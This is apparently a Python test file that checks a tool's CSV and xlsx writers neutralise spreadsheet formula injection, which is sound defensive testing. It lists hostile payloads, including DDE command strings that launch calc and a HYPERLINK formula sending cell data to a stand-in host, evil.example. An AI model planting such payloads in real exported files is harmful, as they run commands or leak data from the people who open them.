"""Nothing batchbind writes runs as a formula (issue 12, item 12), whoever wrote the text.

Every writer is driven with hostile strings (formula starts, DDE payloads, tab and CR prefixes,
apostrophes before them) in input cells, in result values and in what a server answers, and its
file is read back: every `.xlsx` cell is text (openpyxl's data type `s`, never `f`), every
hostile CSV value starts with `'`, and batchbind's own reader gives back exactly what was
written. `resolve`'s copy is checked end to end with a directory that answers formulas as ids.
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import openpyxl
from click.testing import CliRunner
from conftest import ADMIN, FAST_LIMITS
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from batchbind.cli import cli
from batchbind.input.load import load_table
from batchbind.model import RESULT_COLUMNS, Outcome, ResultRow, RunInfo
from batchbind.output.cells import escape_csv_cell, unescape_csv_cell
from batchbind.output.sheetcopy import Grid, Sheet, read_grid, write_grid
from batchbind.output.template import write_template
from batchbind.output.writers import write_results

STARTS = ["=", "+", "-", "@", "\t", "\r", "'=", "''+", "'"]
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"x")',
]
#: A hostile value: a payload, or a formula start before printable text.
hostile = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(
        str.__add__,
        st.sampled_from(STARTS),
        st.text(st.characters(min_codepoint=32, max_codepoint=0x2FFF), max_size=20),
    ),
)
value = st.one_of(hostile, st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=8))
COLUMNS = ["admin_account", "exchange_account", "user_id", "note"]
SLOW = settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def results_rows(cells: list[list[str]], server: list[str]) -> list[ResultRow]:
    return [
        ResultRow(
            cells=row,
            row=n + 2,
            outcome=Outcome.FAILED,
            code=server[n % len(server)],
            msg=server[(n + 1) % len(server)],
            hint=server[(n + 2) % len(server)],
            exchange_binding_id=server[(n + 3) % len(server)],
            binding_status="done",
            attempts=1,
            http_status=400,
            log_id=server[(n + 4) % len(server)],
            updated_at="2026-11-26T00:00:00Z",
        )
        for n, row in enumerate(cells)
    ]


def info(hostile_text: str) -> RunInfo:
    return RunInfo(
        command="run",
        started_at="2026-11-26T00:00:00Z",
        ended_at="2026-11-26T00:00:01Z",
        duration_s=1.0,
        settings={"input": hostile_text, "sheet": hostile_text},
        journal=hostile_text,
    )


def xlsx_types(path: Path) -> dict[str, set[str]]:
    book = openpyxl.load_workbook(path)
    try:
        return {
            sheet.title: {c.data_type for line in sheet.iter_rows() for c in line if c.value}
            for sheet in book.worksheets
        }
    finally:
        book.close()


def csv_lines(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def assert_escaped(written: list[str], meant: list[str]) -> None:
    for got, want in zip(written, meant, strict=True):
        assert got == escape_csv_cell(want)
        if want.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")):
            assert got.startswith("'"), (got, want)
        assert unescape_csv_cell(got) == want


def input_rows(notes: list[str], ids: list[str]) -> list[list[str]]:
    return [
        [ADMIN, f"{n}{extra}@corp.example", ids[n % len(ids)], note]
        for n, (note, extra) in enumerate(zip(notes, ["", "a", "b", "c"] * 10, strict=False))
    ]


@SLOW
@given(
    notes=st.lists(hostile, min_size=1, max_size=6),
    server=st.lists(value, min_size=1, max_size=6),
    ids=st.lists(hostile, min_size=1, max_size=3),
)
def test_results_csv_escapes_everything_and_reads_back(
    tmp_path: Path, notes: list[str], server: list[str], ids: list[str]
) -> None:
    cells = input_rows(notes, ids)
    out = write_results(tmp_path / "r.csv", COLUMNS, results_rows(cells, server), info(notes[0]))
    lines = csv_lines(out)
    assert lines[0] == [*COLUMNS, *RESULT_COLUMNS]
    for line, row in zip(lines[1:], results_rows(cells, server), strict=True):
        assert_escaped(line, [*row.cells, *row.result_values()])
    # batchbind's own reader: the input cells exactly as written, result columns dropped.
    table = load_table(out)
    assert table.columns == COLUMNS
    assert list(table.all_cells()) == cells


@SLOW
@given(
    notes=st.lists(hostile, min_size=1, max_size=6),
    server=st.lists(value, min_size=1, max_size=6),
    ids=st.lists(hostile, min_size=1, max_size=3),
)
def test_results_xlsx_holds_only_text_cells(
    tmp_path: Path, notes: list[str], server: list[str], ids: list[str]
) -> None:
    cells = input_rows(notes, ids)
    out = write_results(tmp_path / "r.xlsx", COLUMNS, results_rows(cells, server), info(notes[0]))
    types = xlsx_types(out)
    assert types["Results"] == {"s"}
    assert types["Summary"] <= {"s", "n"}  # counts are numbers; nothing is a formula


def grid_of(rows: list[list[str]], kind: str) -> Grid:
    return Grid(Path("in." + kind), kind, [Sheet("Sheet1", rows)])  # type: ignore[arg-type]


@SLOW
@given(
    emails=st.lists(hostile, min_size=1, max_size=5),
    ids=st.lists(hostile, min_size=1, max_size=5),
)
def test_resolve_copies_escape_every_cell(
    tmp_path: Path, emails: list[str], ids: list[str]
) -> None:
    header = ["admin_account", "exchange_account", "user_id", "feishu_email", "resolve_status"]
    rows = [header] + [
        [ADMIN, f"x{n}@corp.example", ids[n % len(ids)], email, "found"]
        for n, email in enumerate(emails)
    ]
    for kind in ("csv", "xlsx"):
        copy = write_grid(grid_of([list(r) for r in rows], kind), [Sheet("Sheet1", rows)],
                          tmp_path / "copy.csv")  # fmt: skip
        written = csv_lines(copy)
        for line, row in zip(written, rows, strict=True):
            assert_escaped(line, row)
        table = load_table(copy)  # the binding reader strips the escapes of resolve's copy
        assert list(table.all_cells()) == rows[1:]
        assert read_grid(copy).sheets[0].rows == written  # the grid reader keeps cells as written
        book = write_grid(grid_of(rows, kind), [Sheet("Sheet1", rows)], tmp_path / "copy.xlsx")
        assert xlsx_types(book) == {"Sheet1": {"s"}}


def test_every_template_cell_is_text(tmp_path: Path) -> None:
    for lang in ("en", "zh"):
        types = xlsx_types(write_template(tmp_path / f"t-{lang}.xlsx", lang=lang))
        assert set().union(*types.values()) == {"s"}


# -- resolve, end to end: a directory that answers a formula as an open_id ---------------------

DIRECTORY: dict[str, Any] = {
    "everyone": False,
    "people": [
        {"email": "ann@corp.example", "open_id": '=HYPERLINK("http://evil.example","ok")'},
        {"email": "bob@corp.example", "open_id": "@SUM(1+1)*cmd|' /C calc'!A0"},
        {"email": "cat@corp.example", "open_id": "ou_cat"},
    ],
}


def test_resolve_csv_copy_escapes_input_cells_and_server_ids(
    make_sandbox: Any, tmp_path: Path
) -> None:
    sandbox = make_sandbox({"limits": FAST_LIMITS, "directory": DIRECTORY})
    source = tmp_path / "people.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(
            [
                ["admin_account", "exchange_account", "user_id", "email", "name"],
                [ADMIN, "ann@exchange.example", "", "ann@corp.example", "=1+1"],
                [ADMIN, "bob@exchange.example", "", "bob@corp.example", "-2+3+cmd|' /C calc'!A0"],
                [ADMIN, "cat@exchange.example", "", "cat@corp.example", "Cat"],
            ]
        )
    done = CliRunner().invoke(
        cli,
        ["resolve", str(source), "--base-url", sandbox.base_url, "--app-id", "cli_sandbox"],
        env={"FEISHU_APP_SECRET": "sandbox-secret"},
    )
    assert done.exit_code == 0, done.output
    lines = csv_lines(tmp_path / "people.resolved.csv")
    by_name = {unescape_csv_cell(line[4]): line for line in lines[1:]}
    assert by_name["=1+1"][4] == "'=1+1"
    assert by_name["-2+3+cmd|' /C calc'!A0"][4].startswith("'-")
    assert by_name["=1+1"][2] == '\'=HYPERLINK("http://evil.example","ok")'
    assert by_name["-2+3+cmd|' /C calc'!A0"][2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_name["Cat"][2] == "ou_cat"
    for line in lines:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
